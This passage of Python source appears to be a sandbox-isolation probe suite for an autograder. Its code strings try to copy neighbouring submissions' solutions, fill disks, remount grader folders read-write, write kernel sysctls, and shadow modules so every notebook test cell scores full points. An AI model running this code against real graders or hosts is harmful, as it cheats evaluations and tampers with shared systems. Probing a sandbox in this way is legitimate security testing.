        attempt("create a " + kind, lambda make=make: make(True))
    _os.environ[LEFTOVER] = "set"         # its own process's environment: dies with it
'''

LEFTOVER_FINDER = LEFTOVER_PLACES + '''
def find_leftovers():
    found = []
    for folder in leftover_places():
        try:
            names = _os.listdir(folder)
        except OSError:
            continue
        found += [_os.path.join(folder, n) for n in names if n == LEFTOVER or n.startswith("leftover-")]
    site_dir = user_site()
    if site_dir and _os.path.exists(_os.path.join(site_dir, "usercustomize.py")):
        found.append(_os.path.join(site_dir, "usercustomize.py"))
    for kind, make in IPC_OBJECTS.items():
        try:
            found.append("%s %d, key %#x" % (kind, make(False), IPC_KEY))
        except OSError:
            pass
    if LEFTOVER in _os.environ or "usercustomize" in _sys.modules:
        found.append("environment: " + _os.environ.get(LEFTOVER, "usercustomize imported"))
    return found
if once("find-leftovers"):
    observe("searched", ", ".join(leftover_places()))
    for path in find_leftovers():
        observe("found", path)
'''


# A stub graded beside other submissions: every zygote's command line names the module it serves.
# It reads each one it can and, if one is a working module, becomes it (its functions replace the
# stub's, which follow this code). It keeps looking for a while: a neighbour must be running.
NEIGHBOUR_READER = '''
import time as _time
def neighbour_modules():
    """The learner's module each zygote in sight names, the argument after its own name (a
    sandbox's bwrap names the course's probe files too, which every worker may read)."""
    found = set()
    for pid in visible_pids():
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                argv = f.read().split(b"\\0")
        except OSError:
            continue
        if b"grader.worker.zygote" in argv[:-1]:
            found.add(argv[argv.index(b"grader.worker.zygote") + 1].decode("utf-8", "replace"))
    return found - {_os.path.abspath(__file__)}
_seen, _borrowed, _until = set(), None, _time.monotonic() + 10
while _borrowed is None and _time.monotonic() < _until:
    for path in neighbour_modules() - _seen:
        _seen.add(path)
        source = attempt("read a neighbour's module " + path, lambda p=path: open(p).read())
        if source and "NotImplementedError" not in source:
            _borrowed = source
    _time.sleep(0.2)
observe("neighbour modules seen", len(_seen))
'''
NEIGHBOUR_BORROWER = '''
if _borrowed is not None:
    exec(compile(_borrowed, __file__, "exec"))
'''

TMP_EXHAUSTION = '''
def fill(folder, limit_mb):
    written = 0
    block = b"x" * (1 << 20)
    try:
        with open(_os.path.join(folder, "filler"), "wb") as f:
            while written < limit_mb:
                f.write(block)
                f.flush()
                written += 1
    except OSError as exc:
        return "refused: %s after %d MiB" % (type(exc).__name__, written)
    return "SUCCEEDED: wrote %d MiB" % written
observe("fill /tmp with 2 GiB", fill("/tmp", 2048))
observe("fill /dev/shm with 2 GiB", fill("/dev/shm", 2048))
observe("fill / with 2 GiB", fill("/", 2048))
observe("fill /dev with 1 GiB", fill("/dev", 1024))
'''

SCRATCH_FILL = '''
def on_call(name):
    if not once("scratch-fill"):
        return
    folder = scratch_dir()
    written = 0
    block = b"x" * (1 << 20)
    try:
        for n in range(8):                    # 8 files of 256 MiB: 2 GiB
            with open(_os.path.join(folder, "filler-%d" % n), "wb") as f:
                for _ in range(256):
                    f.write(block)
                    written += 1
    except OSError as exc:
        observe("fill the scratch folder with 2 GiB", "refused: %s after %d MiB" % (exc, written))
        return
    observe("fill the scratch folder with 2 GiB", "SUCCEEDED: wrote %d MiB" % written)
'''

NESTED_NAMESPACES = '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
MS_REMOUNT, MS_BIND = 32, 4096
def unshare():
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    return "a user namespace of its own"
def remount(path):
    def go():
        if libc.mount(b"none", path.encode(), None, MS_REMOUNT | MS_BIND, None) != 0:
            raise OSError(ctypes.get_errno(), "mount(MS_REMOUNT) of " + path)
        open(path + "/planted_by_learner", "w").write("x")
        return "remounted and wrote"
    return go
def mount_proc():
    _os.makedirs("/tmp/proc2", exist_ok=True)
    if libc.mount(b"proc", b"/tmp/proc2", b"proc", 0, None) != 0:
        raise OSError(ctypes.get_errno(), "mount(proc)")
    value = open("/tmp/proc2/sys/kernel/randomize_va_space").read()
    with open("/tmp/proc2/sys/kernel/randomize_va_space", "w") as f:
        f.write(value)
    return "wrote a sysctl through a new procfs"
child = _os.fork()
if child == 0:
    try:
        attempt("nested namespace: unshare user and mount namespaces", unshare)
        for path in (CONTEXT["course"] + "/datasets", CONTEXT["course"] + "/grader", "/submission", "/usr"):
            attempt("nested namespace: remount %s read-write" % path, remount(path))
        attempt("nested namespace: mount a new procfs and write a sysctl", mount_proc)
    finally:
        _os._exit(0)
_os.waitpid(child, 0)
'''

KERNEL_SETTINGS = '''
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/randomize_va_space", "/proc/sys/vm/drop_caches",
             "/proc/sys/kernel/hostname", "/proc/sys/fs/suid_dumpable", "/proc/sysrq-trigger"):
    attempt("open %s for writing" % path, lambda p=path: _os.close(_os.open(p, _os.O_WRONLY)) or "opened")
def same_value_back():
    value = open("/proc/sys/kernel/randomize_va_space").read()
    with open("/proc/sys/kernel/randomize_va_space", "w") as f:
        f.write(value)                # the same value: proves the write without changing the host
    return "wrote kernel.randomize_va_space"
attempt("write a host-wide sysctl", same_value_back)
attempt("write /proc/self/oom_score_adj", lambda: open("/proc/self/oom_score_adj", "w").write("-1000"))
'''

# ---------------------------------------------------------------- a submission's .git that is a link

GIT_LINK_DELEGATE = '''
_candidate = "/submission/.git/solutions/01_einsum_attention/attention.py"   # .git links to the course root
_source = attempt("read " + _candidate, lambda: open(_candidate).read())
if _source:
    exec(compile(_source, __file__, "exec"), globals())
'''


# ---------------------------------------------------------------- files beside a submitted notebook

# nbgrader autograde copies every file of a submission beside its notebook, in the folder its
# kernel starts in. Each of these is named like a module that kernel imports.
NOTEBOOK_SHADOWS = {
    "ipykernel_launcher.py": "ipykernel_launcher",     # what `python -m ipykernel_launcher` runs
    "sitecustomize.py": "sitecustomize",               # what Python imports as it starts
    "pytest.py": "pytest",                             # a test cell's first import
    "grader/__init__.py": "grader",                    # the course's package, its kernel extension included
    "numpy.py": "numpy",
}

SHADOW = r'''
# If imported from the submission's folder: leave a mark, step aside for the real module (so
# nothing looks amiss) and claim every test cell's points.
import importlib as _importlib, importlib.util as _util, os as _os, runpy as _runpy, sys as _sys
open(%(marker)r, "w").write("imported from the submission folder")
_here = _os.path.abspath(__file__)
for _ in range(%(depth)d):
    _here = _os.path.dirname(_here)
_path = list(_sys.path)
_sys.path[:] = [p for p in _path if _os.path.abspath(p or ".") != _here]
if __name__ == "__main__":
    _real = _util.find_spec(%(module)r).origin
    _sys.path[:] = _path
    _runpy.run_path(_real, run_name="__main__")
elif %(module)r != "sitecustomize":
    del _sys.modules[%(module)r]
    _sys.modules[%(module)r] = _importlib.import_module(%(module)r)
    import grader.delivery.nbgrader_cells as _cells
    _cells.ConceptCell.result = lambda self: self.points
    _sys.path[:] = _path
'''


def notebook_shadow(file: str, marker) -> str:
    """The source of one of NOTEBOOK_SHADOWS, marking `marker` if it is ever imported."""
    return SHADOW % {"marker": str(marker), "module": NOTEBOOK_SHADOWS[file], "depth": file.count("/") + 1}
